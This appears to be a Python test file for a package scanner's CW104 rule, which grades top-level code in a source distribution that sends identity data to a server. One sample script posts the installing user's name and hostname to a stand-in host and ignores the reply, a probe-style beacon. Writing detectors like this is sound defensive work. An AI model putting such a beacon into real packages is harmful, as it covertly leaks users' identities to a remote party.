"""CW104 at run time: a module's top-level code that writes identity into the request that sends
it is a note; it becomes a verdict only when it reports both who and where and ignores the
answer (a probe's report), not when it registers a machine and reads what the server says."""

from __future__ import annotations

from tests.helpers import sdist_bytes

from capwatch.engine import scan_bytes
from capwatch.model import Severity

_SETUP = "from setuptools import setup\nsetup(name='fleetkit', version='1.0', packages=['fleetkit'])\n"
_PACKAGE = "def version():\n    return '1.0'\n"


def _cw104(script: str) -> Severity | None:
    release = sdist_bytes(
        {"setup.py": _SETUP, "fleetkit/__init__.py": _PACKAGE, "tools/enroll.py": script},
        top="fleetkit-1.0",
    )
    fired = [f for f in scan_bytes(release, "fleetkit-1.0.tar.gz").findings if f.rule == "CW104"]
    return max((f.severity for f in fired), default=None)


_WHO_AND_WHERE = "{'user': getpass.getuser(), 'host': socket.gethostname()}"
_IMPORTS = "import getpass\nimport socket\nimport requests\n"


def test_who_and_where_sent_with_the_reply_ignored_is_critical() -> None:
    script = _IMPORTS + f"requests.post('https://enroll.example.org/hit', json={_WHO_AND_WHERE})\n"
    assert _cw104(script) is Severity.CRITICAL


def test_a_reply_that_is_read_keeps_it_a_note() -> None:
    script = _IMPORTS + (
        f"reply = requests.post('https://enroll.example.org/machines', json={_WHO_AND_WHERE})\n"
        "reply.raise_for_status()\n"
        "print('enrolled as', reply.json()['id'])\n"
    )
    assert _cw104(script) is Severity.HIGH


def test_the_host_alone_keeps_it_a_note() -> None:
    script = _IMPORTS + "requests.post('https://enroll.example.org/hit', json={'host': socket.gethostname()})\n"
    assert _cw104(script) is Severity.HIGH
